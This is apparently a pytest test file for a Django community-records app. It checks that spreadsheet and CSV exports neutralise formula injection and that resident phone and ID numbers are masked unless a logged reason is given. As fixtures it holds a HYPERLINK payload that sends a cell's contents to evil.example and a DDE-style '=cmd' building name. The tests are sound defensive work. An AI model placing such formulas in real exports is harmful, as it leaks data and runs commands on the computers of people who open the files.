"""Issue 11: exports are safe to open (formula injection) and masked by default for every role."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from communities import spreadsheets
from communities.choices import JobStatus
from communities.jobs import start_job
from consultations import services as consultation_services
from tests import factories as f
from tests.projects import factories as pf

PAYLOAD = '=HYPERLINK("http://evil.example/?d="&B3,"点击查看")'


@pytest.fixture
def run_job(django_capture_on_commit_callbacks):
    def run(user, handler, kind, params=None):
        with django_capture_on_commit_callbacks(execute=True):
            job = start_job(kind=kind, handler=handler, user=user, params=params or {})
        job.refresh_from_db()
        assert job.status == JobStatus.SUCCEEDED, job.message
        with job.result_file.open("rb") as fh:
            return job, fh.read()

    return run


def assert_no_formula(data: bytes, text: str = PAYLOAD) -> None:
    """No cell of any sheet is a formula, and the typed text is there as text with the quote prefix."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets
        for name in sheets:
            assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    wb = load_workbook(io.BytesIO(data))
    found = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value == text]
    assert found, "the typed text is missing"
    for cell in found:
        assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.data_type)


def test_shared_function_neutralises_risky_text_and_keeps_numbers():
    for risky in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"):
        assert spreadsheets.is_formula_like(risky)
        assert spreadsheets.csv_value(risky) == "'" + risky
    for safe in ("张三", "1栋", "", "13812345678"):
        assert not spreadsheets.is_formula_like(safe) and spreadsheets.csv_value(safe) == safe
    assert spreadsheets.csv_row([5, -3, 1.5, "=x"]) == [5, -3, 1.5, "'=x"]  # numbers stay numbers


def test_visit_note_and_demand_are_text_in_the_ledgers(world, secretary_a, run_job):
    h = f.HouseholdFactory(building=f.BuildingFactory(compound=world.compound_a), unit="1", room="101")
    visit = consultation_services.log_visit(
        user=secretary_a,
        household=h,
        attitude="support",
        notes=PAYLOAD,
        opinions=[{"category": "roads", "content": PAYLOAD}],
    )
    _job, data = run_job(secretary_a, "consultations.exports.visit_ledger", "visit_ledger")
    assert_no_formula(data)
    consultation_services.transition_opinion(visit.opinions.get(), "accepted", user=secretary_a)
    _job, data = run_job(secretary_a, "consultations.exports.demand_list", "demand_list")
    assert_no_formula(data)


def test_project_field_is_text_in_the_project_ledger(world, street_user, run_job):
    pf.ProjectFactory(
        name="竹岭改造", division=world.street_a, compounds=[world.compound_a], responsible_leader=PAYLOAD
    )
    _job, data = run_job(street_user, "projects.exports.project_ledger", "project_ledger")
    assert_no_formula(data)
    ws = load_workbook(io.BytesIO(data)).active
    year = [c for c in ws[2] if c.value == 2026 or isinstance(c.value, int)]
    assert year and all(c.data_type == "n" for c in year)  # numbers stay numbers


def test_rectification_is_text_in_the_rectification_ledger(world, street_user, run_job):
    from tests.supervision.factories import RectificationFactory

    project = pf.ProjectFactory(name="竹岭改造", division=world.street_a, compounds=[world.compound_a])
    party = pf.ProjectPartyFactory(project=project)
    RectificationFactory(responsible_party=party, description=PAYLOAD)
    _job, data = run_job(street_user, "supervision.exports.rectification_ledger", "rectification_ledger")
    assert_no_formula(data)


def test_roster_comment_is_text_in_the_roster_export(world, secretary_a, run_job):
    h = f.HouseholdFactory(building=f.BuildingFactory(compound=world.compound_a), unit="1", room="101")
    person = f.PersonFactory(
        name="张建国", phone="13812345678", division=world.community_a, party_organization=PAYLOAD
    )
    f.OwnershipFactory(household=h, person=person)
    _job, data = run_job(
        secretary_a, "communities.roster.export_roster", "roster_export", {"compound": world.compound_a.pk}
    )
    assert_no_formula(data)


def test_overview_ledger_project_name_is_text(world, street_user, run_job):
    from django.utils import timezone

    pf.ProjectFactory(name=PAYLOAD, division=world.street_a, compounds=[world.compound_a])
    _job, data = run_job(
        street_user,
        "supervision.overview.ledger.overview_ledger",
        "overview_ledger",
        {"division": world.street_a.pk, "year": timezone.localdate().year},
    )
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/sheet"):
                assert b"<f>" not in archive.read(name)


def test_codes_csv_neutralises_labels(world, street_user, run_job):
    from communities.models import Building
    from tests.ballots.factories import make_ballot, make_households

    make_households(world.compound_a, building_name="=cmd|' /C calc'!A0")
    assert Building.objects.filter(name__startswith="=").exists()
    ballot = make_ballot(street_user, world.compound_a)
    _job, data = run_job(
        street_user, "consultations.ballots.slips.issue_codes_csv", "ballot_codes", {"ballot_id": ballot.pk}
    )
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    labels = [r[1] for r in rows[1:]]
    assert labels and all(not spreadsheets.is_formula_like(label) for label in labels)


# --- 6. exports masked by default for every role ---------------------------------------------------------

PHONE, ID_NUMBER = "13812345678", "36042419800101123X"


@pytest.fixture
def roster_a(world):
    h = f.HouseholdFactory(building=f.BuildingFactory(compound=world.compound_a), unit="1", room="101")
    person = f.PersonFactory(name="张建国", phone=PHONE, id_number=ID_NUMBER, division=world.community_a)
    f.OwnershipFactory(household=h, person=person)
    return h


def _cells(data: bytes) -> set[str]:
    wb = load_workbook(io.BytesIO(data))
    return {
        str(c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None
    }


@pytest.mark.parametrize("who", ["district_admin", "street_user", "secretary_a"])
def test_roster_export_is_masked_by_default_for_every_role(world, roster_a, run_job, request, who):
    from communities.models import AccessLog

    user = request.getfixturevalue(who)
    job, data = run_job(
        user, "communities.roster.export_roster", "roster_export", {"compound": world.compound_a.pk}
    )
    cells = _cells(data)
    assert PHONE not in cells and ID_NUMBER not in cells
    assert "138****5678" in cells
    assert job.result["unmasked"] is False
    assert not AccessLog.objects.filter(action=AccessLog.Action.REVEAL).exists()


def test_page_roster_export_with_full_numbers_needs_a_reason_and_is_logged(
    world, roster_a, street_user, client, django_capture_on_commit_callbacks
):
    from django.urls import reverse

    from communities.models import AccessLog, BackgroundJob

    client.force_login(street_user)
    url = reverse("communities:roster_export", args=[world.compound_a.pk])
    page = client.get(world.compound_a.get_absolute_url()).content.decode()
    assert 'name="unmask_reason"' in page  # the opt-in is offered next to the export button
    response = client.post(url, {"unmask": "1", "unmask_reason": "  "}, follow=True)
    assert "请说明导出完整电话和身份证号码的理由" in response.content.decode()
    assert not BackgroundJob.objects.exists()
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(url, {"unmask": "1", "unmask_reason": "入户核对产权人联系方式"})
    job = BackgroundJob.objects.get()
    assert response.status_code == 302 and job.status == JobStatus.SUCCEEDED, job.message
    with job.result_file.open("rb") as fh:
        cells = _cells(fh.read())
    assert PHONE in cells and ID_NUMBER in cells
    reveal = AccessLog.objects.get(action=AccessLog.Action.REVEAL, user=street_user)
    assert reveal.reason == "入户核对产权人联系方式" and reveal.object_id == str(world.compound_a.pk)
    assert "phone,id_number" in reveal.fields


def test_api_roster_export_full_numbers_opt_in(
    world, roster_a, secretary_a, viewer, api_as, django_capture_on_commit_callbacks
):
    from communities.models import AccessLog

    url = "/api/v1/roster-exports/"
    body = {"compound": world.compound_a.pk, "unmask": True}
    assert api_as(secretary_a).post(url, body, format="json").status_code == 400  # no reason
    assert api_as(viewer).post(url, {**body, "unmask_reason": "x"}, format="json").status_code == 403
    with django_capture_on_commit_callbacks(execute=True):
        response = api_as(secretary_a).post(url, {**body, "unmask_reason": "核对"}, format="json")
    assert response.status_code == 202, response.content
    assert AccessLog.objects.filter(action=AccessLog.Action.REVEAL, user=secretary_a, reason="核对").exists()


def test_visit_and_demand_ledgers_masked_by_default(
    world, roster_a, secretary_a, api_as, django_capture_on_commit_callbacks
):
    from communities.models import BackgroundJob

    visit = consultation_services.log_visit(
        user=secretary_a,
        household=roster_a,
        attitude="support",
        opinions=[{"category": "roads", "content": "路面"}],
    )
    consultation_services.transition_opinion(visit.opinions.get(), "accepted", user=secretary_a)
    for kind in ("visit_ledger", "demand_list"):
        with django_capture_on_commit_callbacks(execute=True):
            response = api_as(secretary_a).post(
                "/api/v1/consultation-exports/", {"kind": kind}, format="json"
            )
        assert response.status_code == 202, response.content
        job = BackgroundJob.objects.get(pk=response.json()["id"])
        with job.result_file.open("rb") as fh:
            cells = _cells(fh.read())
        assert PHONE not in cells and "138****5678" in cells, kind
        with django_capture_on_commit_callbacks(execute=True):
            response = api_as(secretary_a).post(
                "/api/v1/consultation-exports/",
                {"kind": kind, "unmask": True, "unmask_reason": "回访"},
                format="json",
            )
        job = BackgroundJob.objects.get(pk=response.json()["id"])
        with job.result_file.open("rb") as fh:
            assert PHONE in _cells(fh.read()), kind
